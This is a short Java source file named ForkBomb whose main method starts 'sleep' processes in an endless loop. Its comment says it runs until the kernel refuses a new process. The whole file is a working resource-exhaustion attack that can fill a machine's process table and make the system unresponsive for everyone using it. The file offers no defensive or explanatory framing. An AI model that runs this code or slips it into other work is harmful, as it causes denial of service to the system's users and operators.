// Starts processes without end, and none ends; an uncaught exception or error ends it when the kernel refuses one.
import java.io.IOException;

public class ForkBomb {
    public static void main(String[] arguments) throws IOException {
        while (true) {
            new ProcessBuilder("sleep", "1000").start();
        }
    }
}
